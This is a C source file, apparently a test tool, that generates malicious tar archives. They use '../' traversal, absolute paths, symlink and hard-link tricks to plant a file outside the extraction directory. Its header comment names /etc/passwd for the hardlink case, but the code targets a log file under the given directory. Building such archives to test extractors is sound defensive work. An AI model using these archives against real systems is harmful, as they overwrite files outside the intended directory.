/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile-tar ATTACK DIR: a tar file on stdout that tries to leave a file
 * "escaped" in DIR when it is unpacked carelessly.
 *   dotdot     ../../../..DIR/escaped
 *   absolute   DIR/escaped and /gi-escaped
 *   symlink    a link to DIR, then a file through it
 *   hardlink   a hard link to /etc/passwd's place, then written through
 */
#include <stdio.h>
#include <string.h>

static void octal(char *field, size_t size, unsigned long value)
{
    snprintf(field, size, "%0*lo", (int)size - 1, value);
}

/* One ustar member; TYPE '0' file, '1' hard link, '2' symbolic link. */
static void member(const char *name, char type, const char *link, const char *data)
{
    char header[512] = {0}, block[512] = {0};
    unsigned sum = 0;
    size_t len = data ? strlen(data) : 0;
    snprintf(header, 100, "%s", name);
    octal(header + 100, 8, 0644);
    octal(header + 108, 8, 0);
    octal(header + 116, 8, 0);
    octal(header + 124, 12, len);
    octal(header + 136, 12, 1700000000);
    memset(header + 148, ' ', 8);
    header[156] = type;
    if (link)
        snprintf(header + 157, 100, "%s", link);
    snprintf(header + 257, 6, "ustar");
    header[263] = header[264] = '0';
    for (size_t i = 0; i < sizeof(header); i++)
        sum += (unsigned char)header[i];
    snprintf(header + 148, 8, "%06o", sum);
    fwrite(header, sizeof(header), 1, stdout);
    if (len > 0 && len < sizeof(block)) {
        snprintf(block, sizeof(block), "%s", data);
        fwrite(block, sizeof(block), 1, stdout);
    }
}

int main(int argc, char **argv)
{
    char path[100];
    static const char end[1024];
    if (argc != 3 || strlen(argv[2]) > 60) {
        fprintf(stderr, "usage: hostile-tar dotdot|absolute|symlink|hardlink DIR\n");
        return 2;
    }
    member("innocent", '0', NULL, "this file is fine\n");
    if (strcmp(argv[1], "dotdot") == 0) {
        snprintf(path, sizeof(path), "../../../../../../../../../..%s/escaped", argv[2]);
        member(path, '0', NULL, "out\n");
    } else if (strcmp(argv[1], "absolute") == 0) {
        snprintf(path, sizeof(path), "%s/escaped", argv[2]);
        member(path, '0', NULL, "out\n");
        member("/gi-escaped", '0', NULL, "out\n");
    } else if (strcmp(argv[1], "symlink") == 0) {
        member("door", '2', argv[2], NULL);
        member("door/escaped", '0', NULL, "out\n");
    } else if (strcmp(argv[1], "hardlink") == 0) {
        snprintf(path, sizeof(path), "../../../../../../../../../..%s/logs/registry.log", argv[2]);
        member("hard", '1', path, NULL);
        member("hard", '0', NULL, "written through\n");
    } else {
        return 2;
    }
    fwrite(end, sizeof(end), 1, stdout);
    return 0;
}
